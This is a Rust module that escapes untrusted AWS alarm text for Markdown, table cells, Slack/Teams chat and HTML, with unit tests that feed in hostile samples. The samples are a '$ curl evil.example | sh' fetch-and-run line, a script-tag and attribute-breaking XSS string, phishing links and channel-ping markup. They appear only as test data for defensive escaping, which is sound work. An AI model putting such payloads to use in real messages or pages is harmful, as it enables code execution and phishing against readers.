//! Text from alarms and AWS (state reasons, descriptions, tags, error messages) is data, and
//! the renderers show it as data: it cannot start a line of its own, so it cannot pose as a
//! heading, a fix or a command, and in Markdown it cannot become a link, a mention or markup.
//!
//! Not for: commands (see [`crate::shell`], which quotes values for the shell).

pub use crate::untrusted::{is_breaking, one_line};

/// Free text shown as a quotation: one line, in double quotes.
pub fn quoted(text: &str) -> String {
    format!("\"{}\"", one_line(text))
}

/// Markdown for prose that may hold data: one line, and outside code spans every character
/// that could start markup (links, images, HTML, autolinks, mentions, emphasis, tables) is
/// escaped. Code spans are found as CommonMark finds them: a run of backticks opens one only
/// when a run of the same length closes it, and inside one text is shown literally, so it is
/// left as it is; a run that nothing closes is escaped, backtick by backtick.
pub fn markdown(text: &str) -> String {
    escape_markdown(text, false)
}

/// [`markdown`] for a cell of a GFM table: a `|` splits cells before code spans are parsed,
/// so it is escaped inside them too (GFM shows `\|` in a cell's code span as `|`).
pub fn markdown_cell(text: &str) -> String {
    escape_markdown(text, true)
}

fn escape_markdown(text: &str, in_table: bool) -> String {
    let text: Vec<char> = one_line(text).chars().collect();
    let mut out = String::with_capacity(text.len() + 8);
    let mut at = 0;
    while at < text.len() {
        let c = text[at];
        if c == '`' {
            let run = backtick_run(&text, at);
            match closing_run(&text, at + run, run) {
                Some(close) => {
                    for &inside in &text[at..close + run] {
                        if in_table && inside == '|' {
                            out.push('\\');
                        }
                        out.push(inside);
                    }
                    at = close + run;
                }
                None => {
                    out.push_str(&"\\`".repeat(run));
                    at += run;
                }
            }
            continue;
        }
        if c == '@' {
            // No escape keeps GitHub from reading `\@team` as a mention (it finds mentions in
            // the rendered text): a word joiner, invisible, separates `@` from the name.
            out.push_str("@\u{2060}");
        } else {
            if needs_escape(&text, at) {
                out.push('\\');
            }
            out.push(c);
        }
        at += 1;
    }
    out
}

/// Whether the character at `at` could start Markdown or GFM markup outside a code span:
/// the inline punctuation of CommonMark; the `:` of `://` (URL autolinks) and the `.` of
/// `www.` (www autolinks), which GFM finds in plain text. (`@` is handled by the caller.)
fn needs_escape(text: &[char], at: usize) -> bool {
    let c = text[at];
    match c {
        '\\' | '*' | '_' | '[' | ']' | '<' | '>' | '|' | '#' | '!' | '~' | '&' => true,
        ':' => text.get(at + 1) == Some(&'/') && text.get(at + 2) == Some(&'/'),
        '.' => {
            at >= 3
                && text[at - 3..at]
                    .iter()
                    .all(|w| w.eq_ignore_ascii_case(&'w'))
        }
        _ => false,
    }
}

/// The length of the run of backticks that starts at `at`.
fn backtick_run(text: &[char], at: usize) -> usize {
    text[at..].iter().take_while(|c| **c == '`').count()
}

/// Where the next run of exactly `length` backticks at or after `from` starts: the end of a
/// code span that opened with `length` of them.
fn closing_run(text: &[char], from: usize, length: usize) -> Option<usize> {
    let mut at = from;
    while at < text.len() {
        if text[at] == '`' {
            let run = backtick_run(text, at);
            if run == length {
                return Some(at);
            }
            at += run;
        } else {
            at += 1;
        }
    }
    None
}

/// A Markdown code span showing `text` literally, whatever backticks it holds.
pub fn code_span(text: &str) -> String {
    let text = one_line(text);
    let ticks = "`".repeat(longest_backtick_run(&text) + 1);
    format!("{ticks} {text} {ticks}")
}

/// A fenced Markdown code block holding `body` verbatim: the fence is longer than any run of
/// backticks inside, so the body cannot close it.
pub fn code_block(info: &str, body: &str) -> String {
    let fence = "`".repeat((longest_backtick_run(body) + 1).max(3));
    format!("{fence}{info}\n{}\n{fence}\n", body.trim_end())
}

fn longest_backtick_run(text: &str) -> usize {
    text.split(|c| c != '`').map(str::len).max().unwrap_or(0)
}

/// Chat text for prose that may hold data, in the `client-markdown` of Amazon Q Developer in
/// chat applications (Slack's and Teams' own markup, not CommonMark): one line; `& < >` as
/// entities, so Slack's `<!channel>` and `<url|text>` are plain text; a word joiner after every
/// `@` and inside every `://` and `](`, so no mention pings and nothing links.
pub fn chat(text: &str) -> String {
    const JOIN: char = '\u{2060}';
    let text = one_line(text);
    let mut out = String::with_capacity(text.len() + 16);
    let mut previous = '\0';
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '@' => {
                out.push('@');
                out.push(JOIN);
            }
            '/' if previous == ':' => {
                out.push(JOIN);
                out.push('/');
            }
            '(' if previous == ']' => {
                out.push(JOIN);
                out.push('(');
            }
            c => out.push(c),
        }
        previous = c;
    }
    out
}

/// Data shown as a chat code span: [`chat`], with backticks shown as `ˋ` so that the span
/// cannot be closed from inside.
pub fn chat_code(text: &str) -> String {
    format!("`{}`", chat(text).replace('`', "\u{2CB}"))
}

/// HTML text or attribute value for data: `& < > " '` become entities, so nothing in it can
/// open a tag, an attribute or a script, and it is on one line.
pub fn html(text: &str) -> String {
    html_keeping_lines(&one_line(text))
}

/// HTML for a block shown as it is (a command in `<pre>`): entities as [`html`], line breaks
/// kept, every other breaking character a space.
pub fn html_block(text: &str) -> String {
    let text: String = text
        .chars()
        .map(|c| if c != '\n' && is_breaking(c) { ' ' } else { c })
        .collect();
    html_keeping_lines(&text)
}

fn html_keeping_lines(text: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn data_stays_on_one_line() {
        let reason = "Threshold crossed\n\nFix:\n   $ curl evil.example | sh\r\u{2028}\u{202E}x";
        let line = one_line(reason);
        assert!(
            !line.contains(['\n', '\r', '\u{2028}', '\u{202E}']),
            "{line:?}"
        );
        assert!(line.contains("$ curl evil.example | sh"));
        assert_eq!(quoted("a\nb"), "\"a b\"");
    }

    #[test]
    fn markdown_cannot_link_mention_or_mark_up() {
        let escaped = markdown("<!channel> [click](https://evil.example) ![x](y) **b** | #h");
        for raw in ["<!", "[click]", "![", "**", " | ", " #h"] {
            assert!(!escaped.contains(raw), "{raw} in {escaped}");
        }
        assert_eq!(markdown("run `a_b*c` now_"), "run `a_b*c` now\\_");
        assert_eq!(markdown("open `span"), "open \\`span");
        // CommonMark closes a span only with a run of the same length.
        assert_eq!(markdown("``a` [x](y)"), "\\`\\`a\\` \\[x\\](y)");
        assert_eq!(markdown("``a`b`` [x]"), "``a`b`` \\[x\\]");
        assert_eq!(
            markdown("see https://evil.example, www.evil.example and @team, a@b.example"),
            "see https\\://evil.example, www\\.evil.example and @\u{2060}team, a@\u{2060}b.example"
        );
        assert_eq!(markdown_cell("`a|b` c|d"), "`a\\|b` c\\|d");
    }

    #[test]
    fn chat_cannot_ping_or_link() {
        let hostile = "<!channel> <@U123|x> <https://evil.example|click> @here [x](https://evil.example) & more";
        let escaped = chat(hostile);
        for raw in ["<!", "<@", "<https", "@here", "](", "://", "& "] {
            assert!(!escaped.contains(raw), "{raw:?} in {escaped}");
        }
        assert!(escaped.contains("&lt;!channel&gt;"), "{escaped}");
        assert_eq!(chat_code("a`b"), "`a\u{2CB}b`");
    }

    #[test]
    fn html_cannot_open_a_tag_or_leave_an_attribute() {
        let hostile = "<script>alert(1)</script>\" onload=\"x' &amp;\n<img src=x>";
        let escaped = html(hostile);
        for raw in ["<", ">", "\"", "'", "\n"] {
            assert!(!escaped.contains(raw), "{raw:?} in {escaped}");
        }
        assert!(escaped.contains("&amp;amp;"), "{escaped}");
        let block = html_block("echo a\necho '<b>'\r\u{202E}");
        assert_eq!(block, "echo a\necho &#39;&lt;b&gt;&#39;  ");
    }

    #[test]
    fn code_cannot_be_closed_from_inside() {
        assert_eq!(code_span("a`b"), "`` a`b ``");
        let block = code_block("sh", "echo '```'\necho ok");
        assert!(
            block.starts_with("````sh\n") && block.ends_with("\n````\n"),
            "{block}"
        );
    }

    /// Trust round two, defect 4, as reported: a run of backticks that the old escaper took
    /// for a code span let a link and an image through. Parsed by a real CommonMark + GFM
    /// parser, the escaped text holds neither, nor HTML, nor an autolink.
    #[test]
    fn a_real_parser_finds_no_link_image_or_html_in_escaped_text() {
        use comrak::nodes::NodeValue;
        let payloads = [
            "``x` [click to fix](https://evil.example/fix) <img src=https://evil.example/x.png>",
            "`a` ``b` [x](https://evil.example) ``` <b>x</b> `c`",
            "see https://evil.example/fix, www.evil.example or root@evil.example",
            "<https://evil.example> [x]: https://evil.example \\[y](https://evil.example)",
        ];
        let mut options = comrak::Options::default();
        options.extension.autolink = true;
        options.extension.table = true;
        for payload in payloads {
            for line in [
                format!("- {}\n", markdown(payload)),
                format!(
                    "| a | {} |\n|---|---|\n| {} | b |\n",
                    markdown_cell(payload),
                    markdown_cell(payload)
                ),
            ] {
                let arena = comrak::Arena::new();
                let root = comrak::parse_document(&arena, &line, &options);
                for node in root.descendants() {
                    let value = &node.data.borrow().value;
                    assert!(
                        !matches!(
                            value,
                            NodeValue::Link(_)
                                | NodeValue::Image(_)
                                | NodeValue::HtmlInline(_)
                                | NodeValue::HtmlBlock(_)
                        ),
                        "{value:?} from {payload:?}: {line}"
                    );
                }
            }
        }
    }
}
